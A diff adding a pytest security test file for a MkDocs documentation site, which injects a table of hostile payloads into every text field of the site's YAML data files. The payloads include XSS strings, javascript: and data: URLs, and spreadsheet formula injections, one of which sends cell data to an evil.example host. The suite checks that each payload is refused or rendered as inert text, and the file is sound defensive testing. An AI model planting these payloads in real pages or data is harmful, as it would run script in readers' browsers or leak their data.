@@ -1,0 +1,269 @@
+"""A pull request that edits only docs/data/ cannot harm a reader.
+
+ONE table of cases: every payload in PAYLOADS goes into every text and link field of every data
+file in DATA_FILES (the fields are read from each file's JSON Schema, so a new field is covered
+as soon as it exists). Each case ends one of two ways: the loader refuses it with one line
+`file:line: entry 1: 'field' ...`, or every rendering of it (page Markdown through the site's
+own Markdown extensions, glossary tooltips, flashcard CSV) shows it as inert text. Payloads
+marked REFUSE must be refused in every field.
+
+To extend: add a row to PAYLOADS, or a data file to DATA_FILES with its loader and its renderings.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import io
+import json
+import os
+import re
+import shutil
+
+import markdown
+import pytest
+import yaml
+from bs4 import BeautifulSoup
+
+from conftest import ROOT, build_site, html_pages, run_script
+import generate_pages
+import renderings
+import site_data
+from data_file import DataError
+
+REFUSE, EITHER = "refused", "refused or inert"
+PAYLOADS = [  # (what it tries, the value, the outcome required)
+    ("stored XSS: img onerror", "<img src=x onerror=alert(1)>", EITHER),
+    ("stored XSS: svg onload", "<svg/onload=alert(1)>", EITHER),
+    ("stored XSS: script element", "<script>alert(1)</script>", EITHER),
+    ("link breakout after a URL", "https://docs.docker.com/get-started/)<img/src/onerror=alert(2)>", EITHER),
+    ("Markdown javascript: link", "see [docs](javascript:alert(1))", EITHER),
+    ("Markdown javascript: link, no parentheses", "see [docs](javascript:alert%281%29)", EITHER),
+    ("Markdown link to another site", "see [docs](https://evil.example/)", EITHER),
+    ("javascript: URL alone", "javascript:alert(1)", EITHER),
+    ("data: URL", "data:text/html,<script>alert(1)</script>", EITHER),
+    ("attr_list attributes", "text { onmouseover=alert(1) }", EITHER),
+    ("attr_list after a code span", "`docker ps`{: onclick=alert(1) }", EITHER),
+    ("raw HTML entity", "&lt;script&gt;alert(1)&lt;/script&gt;", EITHER),
+    ("end-of-block marker", "<!-- end generated:commands -->", REFUSE),
+    ("end-of-block marker in code", "`<!-- end generated:comparison-table -->`", REFUSE),
+    ("start-of-block marker", "<!-- generated:glossary -->", REFUSE),
+    ("spreadsheet formula", '=HYPERLINK("https://evil.example/?"&A1,"click")', EITHER),
+    ("spreadsheet formula with +", "+cmd|' /C calc'!A0", EITHER),
+    ("spreadsheet formula with @", "@SUM(1+1)*cmd|' /C calc'!A0", EITHER),
+    ("table cell split", "a | b", EITHER),
+    ("lone backtick", "a ` b", EITHER),
+    ("pipe inside a code span", "`a | b`", REFUSE),
+    ("zero-width space", "Nat\u200bure", REFUSE),
+    ("bidi override", "safe\u202eexe.txt", REFUSE),
+    ("bidi isolate", "a\u2066b\u2069", REFUSE),
+    ("byte order mark", "\ufeffImage", REFUSE),
+    ("control character", "bell\x07", REFUSE),
+    ("line separator", "one\u2028two", REFUSE),
+    ("heading at a line start", "# Heading", EITHER),
+    ("list at a line start", "- item", EITHER),
+    ("ordered list at a line start", "1. item", EITHER),
+    ("definition at a line start", ":   definition", EITHER),
+    ("snippet include", '--8<-- "links.md"', EITHER),
+    ("abbreviation breaker", "back\\slash", EITHER),
+    ("leading space (code block)", "    indented", REFUSE),
+]
+DATA_FILES = {  # file in docs/data/ -> (loader, renderings of what it loads)
+    "comparison.yml": (site_data.comparison_rows,
+                       [renderings.comparison_table, renderings.summary_table]),
+    "glossary.yml": (site_data.glossary_terms, [renderings.glossary]),
+    "commands.yml": (site_data.commands, [renderings.command_tables, renderings.command_sheet]),
+    "lifecycle.yml": (site_data.lifecycle,
+                      [renderings.lifecycle_diagram, renderings.lifecycle_states, renderings.lifecycle_transitions]),
+    "quiz.yml": (site_data.quiz_questions, [renderings.quiz]),
+}
+# The flashcard sheets put comparison and glossary text inside `markdown="span"` blocks.
+FLASHCARD_SHEET = {"comparison.yml": lambda rows: renderings.flashcard_sheets((rows, site_data.glossary_terms())),
+                   "glossary.yml": lambda terms: renderings.flashcard_sheets((site_data.comparison_rows(), terms))}
+
+
+def text_fields(file: str) -> dict[tuple, dict]:
+    """{path to a text or link field (in a list, of its first entry): the field's schema, $ref
+    resolved, for a list of strings its items' schema}, read from the data file's JSON Schema:
+    top-level fields, fields of the entries of every list, and a file that is itself a list."""
+    schema = json.loads((ROOT / "docs/data" / file.replace(".yml", ".schema.json")).read_text(encoding="utf-8"))
+
+    def resolved(spec: dict) -> dict:
+        return {**schema.get("$defs", {}).get(spec.get("$ref", "").rpartition("/")[2], {}), **spec}
+
+    def fields(spec: dict, path: tuple) -> dict[tuple, dict]:
+        spec = resolved(spec)
+        if spec.get("type") == "array":
+            item = resolved(spec.get("items", {}))
+            return fields(item, (*path, 0)) if item.get("type") == "object" else ({path: item} if "format" in item else {})
+        if spec.get("type") == "object":
+            return {found: sub for name, value in spec.get("properties", {}).items()
+                    for found, sub in fields(value, (*path, name)).items()}
+        return {path: spec} if "format" in spec else {}
+
+    return fields(schema, ())
+
+
+CASES = [pytest.param(file, path, value, outcome, id=f"{file}:{'.'.join(s for s in path if isinstance(s, str))}:{name}")
+         for file in DATA_FILES for path in text_fields(file) for name, value, outcome in PAYLOADS]
+
+
+@pytest.fixture(scope="module")
+def site_markdown():
+    """Markdown to HTML with the site's own extensions, as MkDocs configures them."""
+    from mkdocs.config import load_config
+
+    config = load_config(str(ROOT / "mkdocs.yml"))
+    return markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)
+
+
+def put(data, path: tuple, value: str) -> None:
+    """Set the value at `path` in loaded YAML data (for a list of strings, its first item)."""
+    *parents, last = path
+    for step in parents:
+        data = data[step]
+    current = data[last] if isinstance(data, list) else data.get(last)
+    data[last] = [value, *current[1:]] if isinstance(current, list) else value
+
+
+def with_value(tmp_path, file: str, path: tuple, value: str):
+    """A copy of the data file with `value` at `path`."""
+    data = yaml.safe_load((ROOT / "docs/data" / file).read_text(encoding="utf-8"))
+    put(data, path, value)
+    copy = tmp_path / file
+    copy.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=False), encoding="utf-8")
+    return copy
+
+
+def active_content(html: str) -> list[str]:
+    """Everything in rendered HTML that could run or load: event handlers, scripts, foreign URLs."""
+    soup = BeautifulSoup(html, "lxml")
+    found = [f"<{tag.name}>" for tag in soup.find_all(["script", "img", "svg", "iframe", "object", "embed",
+                                                       "style", "form", "input", "base", "meta", "link"])]
+    for tag in soup.find_all(True):
+        found += [f"<{tag.name} {name}=...>" for name in tag.attrs if name.lower().startswith("on")]
+        for name in ("href", "src", "action", "formaction", "xlink:href"):
+            url = str(tag.get(name, ""))
+            if url and not re.match(r"^(https://|#|\.\./|[\w./-]+$)", url):
+                found.append(f"<{tag.name} {name}={url}>")
+    return found
+
+
+def visible_text(html: str) -> str:
+    return " ".join(BeautifulSoup(html, "lxml").get_text().split())
+
+
+@pytest.mark.parametrize("file, where, value, outcome", CASES)
+def test_hostile_value_is_refused_in_one_line_or_shown_as_inert_text(tmp_path, site_markdown, file, where, value, outcome):
+    loader, renderers = DATA_FILES[file]
+    field = where[-1]
+    path = with_value(tmp_path, file, where, value)
+    try:
+        records = loader(path)
+    except DataError as error:
+        lines = str(error).splitlines()
+        entry = "entry 1: " if 0 in where else ""
+        assert len(lines) == 1 and re.match(rf"^{re.escape(str(path))}:\d+: {entry}'{field}' ", lines[0]), str(error)
+        return
+    assert outcome != REFUSE, f"{file}: {field}: {value!r} was accepted; it must be refused"
+    try:
+        pages = [renderer(records) for renderer in [*renderers, *filter(None, [FLASHCARD_SHEET.get(file)])]]
+        if file == "glossary.yml":
+            pages.append(f"A container runs an image.\n\n{renderings.abbreviations(records)}")
+    except DataError as error:  # refused at rendering (e.g. a term that cannot be a tooltip): still one line
+        assert len(str(error).splitlines()) == 1, str(error)
+        return
+    shown = ""
+    for page in pages:
+        assert not generate_pages.MARKER.search(page), f"{file}: {field}: {value!r} adds a block marker"
+        html = site_markdown.reset().convert(page)
+        assert active_content(html) == [], f"{file}: {field}: {value!r} renders as {active_content(html)}"
+        shown += visible_text(html)
+    if field != "source":
+        as_text = {" ".join(text.split()) for text in (renderings.plain(value), value)}  # a diagram's title keeps its backticks
+        assert any(text in shown for text in as_text), f"{file}: {field}: {value!r} is not shown as text"
+    if file == "comparison.yml":
+        cells = [cell for row in csv.reader(io.StringIO(renderings.flashcards_csv(records))) for cell in row]
+        assert not [c for c in cells if c.lstrip(" ").startswith(renderings.FORMULA_START)], cells
+
+
+def test_every_data_file_is_in_the_table():
+    """A new data file with a schema in docs/data/ must join DATA_FILES, with its loader and renderings."""
+    files = {path.with_suffix(".yml").name.replace(".schema", "") for path in (ROOT / "docs/data").glob("*.schema.json")}
+    assert files == set(DATA_FILES), f"add {sorted(files - set(DATA_FILES))} to DATA_FILES in this test"
+
+
+def handlers_and_script_urls(soup) -> list[str]:
+    """Inline event handler attributes and javascript: URLs anywhere in a parsed page."""
+    found = []
+    for tag in soup.find_all(True):
+        found += [f"<{tag.name} {name}=...>" for name in tag.attrs if name.lower().startswith("on")]
+        found += [f"<{tag.name} {name}={value}>" for name, value in tag.attrs.items()
+                  if isinstance(value, str) and re.match(r"^\s*javascript:", value, re.IGNORECASE)]
+    return found
+
+
+def test_built_site_has_no_inline_event_handler_or_javascript_url(built_site):
+    problems = [f"{page.relative_to(built_site.site)}: {problem}" for page in html_pages(built_site.site)
+                for problem in handlers_and_script_urls(BeautifulSoup(page.read_text(encoding="utf-8"), "lxml"))]
+    assert problems == []
+
+
+# The accepted payloads, one per text field, for a whole hostile site built and browsed.
+HOSTILE_TEXT = "<img src=x onerror=alert(1)> { onmouseover=alert(2) } [x](javascript:alert(3)) <svg/onload=alert(4)>"
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory):
+    """The real site built from data files whose every text field of the first entry is hostile."""
+    repo = tmp_path_factory.mktemp("hostile")
+    for part in ("scripts", "docs", "includes", "overrides"):
+        shutil.copytree(ROOT / part, repo / part, ignore=shutil.ignore_patterns("__pycache__"))
+    for name in ("mkdocs.yml", "package.json"):
+        shutil.copy(ROOT / name, repo / name)
+    shutil.copytree(ROOT / "node_modules/mermaid", repo / "node_modules/mermaid", copy_function=os.link)
+    for file in DATA_FILES:
+        path = repo / "docs/data" / file
+        data = yaml.safe_load(path.read_text(encoding="utf-8"))
+        for where, spec in text_fields(file).items():
+            *parents, field = where
+            parent = functools.reduce(lambda node, step: node[step], parents, data)
+            if spec.get("format") in ("text", "linked-text") and "pattern" not in spec and field in parent:
+                put(data, where, f"{field} {HOSTILE_TEXT}")
+        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
+    generated = run_script(repo, "generate_pages.py")
+    assert generated.returncode == 0, generated.stderr
+    built = build_site(repo / "site", config=repo / "mkdocs.yml")
+    assert built.returncode == 0, built.stderr
+    return repo / "site"
+
+
+def test_hostile_data_builds_into_pages_with_no_handler_and_the_payload_as_text(hostile_site):
+    for page in html_pages(hostile_site):
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
+        assert handlers_and_script_urls(soup) == [], page.relative_to(hostile_site)
+        assert soup.select('img[src="x"], svg[onload]') == [], page.relative_to(hostile_site)
+    for page, field in (("revise/comparison", "image"), ("revise/flashcards", "image"), ("revise/self-test", "question"),
+                        ("revise/self-test", "choices")):
+        shown = visible_text((hostile_site / page / "index.html").read_text(encoding="utf-8"))
+        assert f"{field} {HOSTILE_TEXT}" in shown, f"{page}: the hostile '{field}' is not shown as text"
+
+
+@pytest.mark.parametrize("path", ["revise/comparison/", "revise/glossary/", "beyond/cheat-sheet/", "beyond/lifecycle/",
+                                  "revise/self-test/", "revise/flashcards/", "", "print_page/"])
+def test_hostile_data_raises_no_dialog_in_chromium(chromium, hostile_site, path):
+    from playwright.sync_api import Page
+
+    import local_server
+
+    dialogs = []
+    with local_server.serve(hostile_site) as url:
+        context = chromium.new_context()
+        context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(url) else r.abort())
+        page: Page = context.new_page()
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(url + path, wait_until="networkidle")
+        for cell in page.locator("article td:visible, article dd:visible").all()[:20]:
+            cell.hover()  # onmouseover would fire here
+        context.close()
+    assert dialogs == [], f"/{path} raised dialogs {dialogs}"
